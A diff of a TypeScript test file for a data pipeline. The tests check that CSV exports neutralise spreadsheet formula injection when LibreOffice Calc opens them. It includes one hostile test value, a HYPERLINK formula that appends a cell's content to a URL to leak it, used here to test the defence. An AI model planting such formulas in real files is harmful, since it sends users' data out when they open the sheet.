@@ -1,11 +1,8 @@
 // A hostile source (formulas in an action title, a holder name and texts) through the whole pipeline:
 // LibreOffice Calc opens every CSV with formula evaluation on and holds no formula and no computed value.
-import { spawnSync } from 'node:child_process';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { pathToFileURL } from 'node:url';
-import { DOMParser, type Element, type Node as XmlNode } from '@xmldom/xmldom';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { spreadsheetSafe, toCsv } from '../../pipeline/emit/csv.js';
@@ -13,9 +10,9 @@ import type { Table } from '../../pipeline/emit/tables.js';
 import type { Dataset } from '../../pipeline/model.js';
 import { runPipeline, type RunResult } from '../../pipeline/run.js';
 import { DATA, seedText, runOptions } from '../helpers.js';
+import { EMPTY_CELL, SOFFICE, convertToFods, sheets } from '../support/calc.js';
 import { CLOCK, SLUG, datasetOf, parseNTriples, textOf } from './release.js';
 
-const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));
 const NAMES = ['updates', 'themes', 'actions', 'progress', 'organisations', 'roles', 'changes'] as const;
 const LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Klik hier")';
 
@@ -61,6 +58,12 @@ afterAll(() => {
 });
 
 const csvRows = (name: string): string[][] => parse(textOf(release, `${SLUG}/${name}.csv`), { bom: true }) as string[][];
+interface CsvwGroup {
+  'rdfs:comment': { '@value': string; '@language': string }[];
+  tables: { url: string; tableSchema: { columns: { name: string; datatype: string }[] } }[];
+}
+const group = (): CsvwGroup => JSON.parse(textOf(release, `${SLUG}/csv-metadata.json`)) as CsvwGroup;
+const tableOf = (name: string) => group().tables.find((t) => t.url === `${name}.csv`)!;
 
 describe('a source with formulas', () => {
   it('keeps the exact source text in dataset.json and the RDF', () => {
@@ -87,13 +90,12 @@ describe('a source with formulas', () => {
     expect(progress.find((r) => r[2] === '4')![text]).toMatch(/^Het Open Wob/);
   });
 
-  it('describes the apostrophe in the CSVW metadata of every table, in Dutch and English', () => {
-    for (const name of NAMES) {
-      const meta = JSON.parse(textOf(release, `${SLUG}/${name}.csv-metadata.json`)) as { 'rdfs:comment': { '@value': string; '@language': string }[] };
-      expect(meta['rdfs:comment'].map((c) => c['@language'])).toEqual(['nl', 'en']);
-      expect(meta['rdfs:comment'][1]!['@value']).toContain("gets one apostrophe (') in front");
-      expect(meta['rdfs:comment'][1]!['@value']).toContain('-3 stays -3');
-    }
+  it('describes the apostrophe in the CSVW table group of all tables, in Dutch and English', () => {
+    const meta = group();
+    expect(meta.tables.map((t) => t.url)).toEqual(NAMES.map((n) => `${n}.csv`));
+    expect(meta['rdfs:comment'].map((c) => c['@language'])).toEqual(['nl', 'en']);
+    expect(meta['rdfs:comment'][1]!['@value']).toContain("gets one apostrophe (') in front");
+    expect(meta['rdfs:comment'][1]!['@value']).toContain('-3 stays -3');
   });
 });
 
@@ -145,56 +147,6 @@ describe('spreadsheetSafe and toCsv', () => {
 
 // ── LibreOffice ─────────────────────────────────────────────────────────────────────────────────
 
-const TEXT = 'urn:oasis:names:tc:opendocument:xmlns:text:1.0';
-const TABLE = 'urn:oasis:names:tc:opendocument:xmlns:table:1.0';
-const OFFICE = 'urn:oasis:names:tc:opendocument:xmlns:office:1.0';
-
-/** The text of an ODF paragraph: runs, spans, links, <text:s c>, tabs and line breaks. */
-function odfText(node: XmlNode): string {
-  let out = '';
-  for (let child = node.firstChild; child; child = child.nextSibling) {
-    if (child.nodeType === 3) out += child.nodeValue ?? '';
-    else if (child.nodeType === 1) {
-      const el = child as Element;
-      if (el.namespaceURI === TEXT && el.localName === 's') out += ' '.repeat(Number(el.getAttributeNS(TEXT, 'c') || '1'));
-      else if (el.namespaceURI === TEXT && el.localName === 'tab') out += '\t';
-      else if (el.namespaceURI === TEXT && el.localName === 'line-break') out += '\n';
-      else out += odfText(el);
-    }
-  }
-  return out;
-}
-
-interface SheetCell {
-  text: string;
-  type: string;
-  value: string;
-  date: string;
-  boolean: string;
-  formula: string;
-}
-
-/** The cells of the first sheet of a flat ODS file, rows × columns, repeated cells expanded. */
-function sheetCells(fods: string): SheetCell[][] {
-  const doc = new DOMParser().parseFromString(fods, 'text/xml');
-  const table = doc.getElementsByTagNameNS(TABLE, 'table')[0]!;
-  const rows: SheetCell[][] = [];
-  for (const row of Array.from(table.getElementsByTagNameNS(TABLE, 'table-row'))) {
-    const cells: SheetCell[] = [];
-    for (let c = row.firstChild; c; c = c.nextSibling) {
-      if (c.nodeType !== 1 || (c as Element).localName !== 'table-cell') continue;
-      const el = c as Element;
-      const paragraphs = Array.from(el.getElementsByTagNameNS(TEXT, 'p')).map(odfText);
-      const cell = { text: paragraphs.join('\n'), type: el.getAttributeNS(OFFICE, 'value-type') ?? '', value: el.getAttributeNS(OFFICE, 'value') ?? '', date: el.getAttributeNS(OFFICE, 'date-value') ?? '', boolean: el.getAttributeNS(OFFICE, 'boolean-value') ?? '', formula: el.getAttributeNS(TABLE, 'formula') ?? '' };
-      const repeat = Number(el.getAttributeNS(TABLE, 'number-columns-repeated') || '1');
-      for (let i = 0; i < Math.min(repeat, 64); i++) cells.push(cell);
-    }
-    while (cells.length && cells.at(-1)!.type === '' && cells.at(-1)!.text === '') cells.pop();
-    rows.push(cells);
-  }
-  return rows;
-}
-
 // CSV import options of LibreOffice (token: value): 1 comma, 2 double quote, 3 UTF-8, 4 from line 1,
 // 6 en-US, 7 quoted fields not forced to text, 8 special numbers (dates) detected, 13 evaluate formulas: on.
 const CSV_IMPORT = 'Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true';
@@ -208,20 +160,18 @@ describe.skipIf(!SOFFICE)('the CSV files opened in LibreOffice Calc (skipped: so
       writeFileSync(file, textOf(release, `${SLUG}/${name}.csv`));
       return file;
     });
-    const profile = pathToFileURL(join(out, 'profile')).href;
-    const run = spawnSync(SOFFICE!, [`-env:UserInstallation=${profile}`, '--headless', '--norestore', `--infilter=${CSV_IMPORT}`, '--convert-to', 'fods', '--outdir', out, ...files], { encoding: 'utf8', timeout: 90_000 });
-    expect(run.status, `${run.stdout}${run.stderr}`).toBe(0);
+    const run = convertToFods(files, out, CSV_IMPORT);
+    expect(run.status, run.output).toBe(0);
 
     let hostile = 0;
     for (const name of NAMES) {
-      const meta = JSON.parse(textOf(release, `${SLUG}/${name}.csv-metadata.json`)) as { tableSchema: { columns: { name: string; datatype: string }[] } };
-      const typeOf = meta.tableSchema.columns.map((c) => c.datatype);
+      const typeOf = tableOf(name).tableSchema.columns.map((c) => c.datatype);
       const csv = csvRows(name);
-      const sheet = sheetCells(readFileSync(join(out, `${name}.fods`), 'utf8'));
+      const sheet = [...sheets(readFileSync(join(out, `${name}.fods`), 'utf8')).values()][0]!;
       expect(sheet.length, name).toBeGreaterThanOrEqual(csv.length);
       csv.forEach((row, r) =>
         row.forEach((text, c) => {
-          const cell = sheet[r]![c] ?? { text: '', type: '', value: '', date: '', boolean: '', formula: '' };
+          const cell = sheet[r]?.[c] ?? EMPTY_CELL;
           const where = `${name}.csv row ${r + 1} column ${c + 1}`;
           expect(cell.formula, where).toBe('');
           // Calc reads integers, ISO dates and true/false as typed values: the same value, in a column of that type.
